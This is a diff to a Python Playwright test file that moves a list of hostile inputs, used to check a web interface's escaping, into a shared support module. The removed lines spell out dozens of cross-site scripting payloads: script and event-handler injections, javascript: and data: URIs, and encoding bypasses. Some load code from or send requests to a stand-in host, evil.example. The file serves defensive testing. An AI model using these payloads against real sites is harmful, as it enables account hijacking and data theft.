@@ -8,6 +8,7 @@ from urllib.parse import quote
 import pytest
 from playwright.sync_api import expect
 from prometheus_client import CollectorRegistry
+from support.hostile_texts import PAYLOADS
 from support.results import RUN, case_result, step_result
 from support.web_servers import servers
 
@@ -18,75 +19,6 @@ from sentinel.model.delivery_problem import DeliveryProblem
 pytestmark = pytest.mark.fault("X7")
 
 NOW = 1_700_000_000.0
-STEAL = "http://evil.example:9/"
-ATTACK = "document.title='pwned';alert(1)"
-PAYLOADS = [
-    *(f"<{tag}>{ATTACK}</{tag}>" for tag in ("script", "SCRIPT", "svg><script", "math><script")),
-    f"</script><script>{ATTACK}</script>",
-    f"</textarea></title></style></noscript><script>{ATTACK}</script>",
-    f"<!--><script>{ATTACK}</script>-->",
-    f"]]><script>{ATTACK}</script>",
-    f"<script src={STEAL}x.js></script>",
-    f"<script>import('{STEAL}')</script>",
-    *(
-        f'<{tag} {event}="{ATTACK}">'
-        for tag, event in (
-            ("img src=x", "onerror"),
-            ("img src=x ", "OnErRoR"),
-            ("svg", "onload"),
-            ("body", "onload"),
-            ("video><source", "onerror"),
-            ("details open", "ontoggle"),
-            ("input autofocus", "onfocus"),
-            ("marquee", "onstart"),
-            ("iframe", "onload"),
-            ("div style='animation:x' ", "onanimationstart"),
-            ("p", "onmouseover"),
-            ("select autofocus", "onfocus"),
-            ("object data=x", "onerror"),
-            ("link rel=stylesheet href=x", "onerror"),
-        )
-    ),
-    f"<img src={STEAL}pixel>",
-    f"<img srcset={STEAL}pixel>",
-    f"<iframe src='javascript:{ATTACK}'></iframe>",
-    f"<iframe srcdoc='<script>{ATTACK}</script>'></iframe>",
-    f"<object data='javascript:{ATTACK}'></object>",
-    f"<embed src='javascript:{ATTACK}'>",
-    f"<a href='javascript:{ATTACK}'>x</a>",
-    f"<form action='javascript:{ATTACK}'><input type=submit></form>",
-    f"<base href='{STEAL}'>",
-    f"<meta http-equiv=refresh content='0;url={STEAL}'>",
-    f"<meta http-equiv=refresh content='0;url=javascript:{ATTACK}'>",
-    f"<style>@import '{STEAL}'; body{{background:url({STEAL})}}</style>",
-    f"<link rel=prefetch href={STEAL}>",
-    f"<template shadowrootmode=open><script>{ATTACK}</script></template>",
-    f"javascript:{ATTACK}",
-    f"JaVaScRiPt:{ATTACK}",
-    f"data:text/html,<script>{ATTACK}</script>",
-    f"vbscript:{ATTACK}",
-    f"//{STEAL}",
-    f"'\"><script>{ATTACK}</script>",
-    f'" onmouseover="{ATTACK}',
-    f"' autofocus onfocus='{ATTACK}",
-    f"`${{{ATTACK}}}`",
-    f"{{{{constructor.constructor('{ATTACK}')()}}}}",
-    f"${{{ATTACK}}}",
-    f"&lt;script&gt;{ATTACK}&lt;/script&gt;",
-    f"&#60;script&#62;{ATTACK}&#60;/script&#62;",
-    f"\\u003cscript\\u003e{ATTACK}\\u003c/script\\u003e",
-    f"%3Cscript%3E{ATTACK}%3C/script%3E",
-    f"+ADw-script+AD4-{ATTACK}+ADw-/script+AD4-",
-    f"\u2028{ATTACK}\u2029",
-    f"<scr\0ipt>{ATTACK}</scr\0ipt>",
-    f"\u202e<script>{ATTACK}</script>",
-    f"[x](javascript:{ATTACK})",
-    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{ATTACK}</x:script>",
-    "__proto__",
-    "constructor",
-    "\ud83d",
-    "</p><p>" * 200,
-]
 
 
 def full_state():
